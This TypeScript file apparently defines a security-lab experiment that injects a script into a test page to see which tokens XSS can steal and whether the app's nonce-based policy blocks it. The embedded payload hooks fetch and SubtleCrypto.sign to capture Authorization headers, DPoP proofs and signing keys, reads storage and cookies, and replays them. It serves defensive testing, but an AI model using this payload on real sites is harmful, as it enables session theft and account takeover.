import 'server-only'
import { generateKeyPair } from 'dpop'
import { exportJWK } from 'jose'
import { z } from 'zod'
import { Prover } from '@/lib/client'
import { env } from '@/lib/env'
import { pagePolicy } from '@/lib/auth/http/response-headers'
import { asvs } from '@/lib/standards'
import { cookieStrategyIds, strategyIds } from '@/lib/strategies'
import { keepingPage, placesOf, proofScript, type Place } from '../stage/document'
import { expected, LabBrowser } from '../trial/browser'
import { LabClient } from '../trial/lab-client'
import { opened, type Trial } from '../trial/trial'
import type { Experiment, Outcome } from './contract'

/**
 * What somebody managed to write into a page. It does not know what it will find there, so it listens to its calls too, and
 * to what the page has signed: a key that it cannot read it may still use.
 */
const injected = `<script>
  window.loot = (async () => {
    ${proofScript}
    const heard = []
    const proofs = []
    let signingKey
    const sign = SubtleCrypto.prototype.sign
    SubtleCrypto.prototype.sign = function (...given) {
      signingKey = given[1]
      return sign.apply(this, given)
    }
    const send = window.fetch
    window.fetch = (input, init) => {
      const { headers } = new Request(input, init)
      const said = headers.get('Authorization')
      if (said) heard.push(said.slice(said.indexOf(' ') + 1))
      if (headers.has('DPoP')) proofs.push(headers.get('DPoP'))
      return send(input, init)
    }
    await new Promise((loaded) => addEventListener('load', loaded))
    await window.called.catch(() => {})
    const stored = [sessionStorage, localStorage].flatMap((place) => Object.values(place))
    const cookies = document.cookie.split('; ').map((pair) => pair.slice(pair.indexOf('=') + 1))
    const texts = [...new Set([...cookies, ...stored, ...heard])].filter(Boolean)
    const ask = async (strategy, headers) => (await send('/api/me?strategy=' + strategy, { headers })).status
    const answers = []
    for (const strategy of ${JSON.stringify(cookieStrategyIds)}) answers.push(await ask(strategy))
    for (const text of texts) answers.push(await ask('${cookieStrategyIds[0]}', { Authorization: 'Bearer ' + text }))
    for (const proof of proofs) {
      const { jwk } = JSON.parse(atob(proof.split('.')[0].replaceAll('-', '+').replaceAll('_', '/')))
      const { htu } = JSON.parse(atob(proof.split('.')[1].replaceAll('-', '+').replaceAll('_', '/')))
      for (const text of texts) {
        const own = await proofBy(signingKey, jwk, text, htu)
        answers.push(await ask('${cookieStrategyIds[0]}', { Authorization: 'DPoP ' + text, DPoP: own }))
      }
    }
    return { texts, proofs, acted: answers.includes(200) }
  })()
</script>`

const text = z.string().max(8192)
const loot = z.strictObject({
  texts: z.array(text).max(50),
  proofs: z.array(text).max(50),
  acted: z.boolean(),
})
const report = z.strictObject({ ran: z.boolean(), loot: loot.nullable(), called: z.literal(200) })
type Report = z.infer<typeof report>

/** Of one place: without a policy, and under that of the app. `taken`: what the script got opens the app elsewhere */
type Seen = { place: Place; without: Report; under: Report; taken: boolean }

async function observe(trial: Trial, owner: LabClient, place: Place): Promise<Seen> {
  const { step } = trial
  const key = owner.prover ? await pairForPage(owner.prover) : null
  const visit = async (policy: (nonce: string) => string | null) =>
    report.parse(await opened(trial).visit(keepingPage({ owner, place, injected, key }, policy)))
  const without = await step(`A page that keeps it in ${named[place]} is opened, without a policy.`, () =>
    visit(() => null),
  )
  if (!without.ran) throw new Error('The script did not run without a policy: nothing was tried')
  const taken = await step('A thief elsewhere sends all that the script got.', () =>
    opensElsewhere(owner, without),
  )
  const under = await step('The same page is opened under the policy of the app.', () =>
    visit((nonce) => pagePolicy(nonce, '/', false)),
  )
  return { place, without, under, taken }
}

const named: Record<Place, string> = {
  cookie: 'a cookie',
  sessionStorage: 'sessionStorage',
  memory: 'memory',
}

/** With each text as the credential; and where there are proofs, with each of them as it was, under both schemes. */
async function opensElsewhere(owner: LabClient, { loot }: Report) {
  const thief = owner.stolen()
  const texts = loot?.texts ?? []
  for (const text of texts) if ((await thief.withCredential(text).me()).status === 200) return true
  for (const text of texts)
    for (const proof of loot?.proofs ?? [])
      for (const scheme of ['DPoP', 'Bearer']) {
        const headers = { Authorization: `${scheme} ${text}`, DPoP: proof }
        if ((await new LabBrowser().send('GET', '/api/me', { headers })).status === 200) return true
      }
  return false
}

/** The key pair of a client as JSON, with the address that its proofs name, for a page that goes on with it. */
async function pairForPage({ keyPair, origin }: Prover): Promise<string> {
  const { privateKey, publicKey } = await keyPair()
  const [privateJwk, publicJwk] = [await exportJWK(privateKey), await exportJWK(publicKey)]
  return JSON.stringify({ privateJwk, publicJwk, htu: `${origin()}/api/me` })
}

/** Signs in with a key that can be exported, once: the page of the trial gets it, and keeps it as a page does. */
async function signedInForPage({ strategy, person, step }: Trial): Promise<LabClient> {
  const client = new LabClient(strategy)
  const keyPair = await generateKeyPair('ES256', { extractable: true })
  client.browser.prover = new Prover(() => env().AUTH_URL, keyPair)
  await step('The owner signs in.', async () => expected(200, await client.signIn(person)))
  return client
}

const became = ({ taken, without }: Seen) =>
  taken ? 'taken away' : without.loot?.acted ? 'used in the page' : 'of no use'

function outcomeOf(all: Seen[]): Outcome {
  const without = all.map((seen): [string, string] => [
    `kept in ${named[seen.place]}, without a policy`,
    became(seen),
  ])
  const ran = all.some(({ under }) => under.ran)
  const measured = {
    ...Object.fromEntries(without),
    'under the policy of the app': ran ? 'the script ran' : 'the script did not run',
  }
  if (ran) return { verdict: 'The policy did not stop the script', result: 'vulnerable', measured }
  return { ...verdictOf(all), measured }
}

function verdictOf(all: Seen[]): Pick<Outcome, 'verdict' | 'result'> {
  const taken = all.filter((seen) => seen.taken).map(({ place }) => named[place])
  if (taken.length > 0)
    return { verdict: `Taken away from ${taken.join(' and ')}, used elsewhere`, result: 'vulnerable' }
  return all.some(({ without }) => without.loot?.acted)
    ? { verdict: 'Used in the page, not taken away', result: 'time-limited' }
    : { verdict: 'Of no use to a script', result: 'resists' }
}

async function run(trial: Trial): Promise<Outcome> {
  const owner = await signedInForPage(trial)
  const all: Seen[] = []
  for (const place of placesOf(owner)) all.push(await observe(trial, owner, place))
  return outcomeOf(all)
}

export const stolenByScript: Experiment = {
  slug: 'stolen-by-script',
  title: 'Stolen by a script',
  question: 'Somebody gets a script of theirs into a page. What does it take away?',
  prediction: {
    ask: 'What can the script carry off to a computer of its author?',
    options: [
      'Nothing',
      'A token in the storage of the page, but none in its memory',
      'A token, wherever the page keeps it',
      'Tokens and cookies',
    ],
  },
  strategies: strategyIds,
  opensWindow: true,
  run,
  why: 'A script that got into a page (XSS) does what the page’s own scripts can do. It reads sessionStorage and localStorage, and never an HttpOnly cookie. A token in memory it cannot read, but the page has to send it: whoever puts a fetch of their own in the place of the browser’s reads the Authorization header of the next call. With the cookie it can act for as long as the page is open; with a token it can act anywhere, until the token ends. A token that is bound to a key opens nothing elsewhere, with or without the proofs that were heard: each counts once, for one request. No script reads a cookie that is bound to a device either, and a program on that device which does has it for minutes. But the script need not read the key to use it: it waits until the page signs something, and from then on has the browser sign what it wants, for as long as the page is open. The better defence is that it never runs: under the app’s policy only scripts with the nonce of this very response do.',
  clause: asvs('3.3.4'),
}
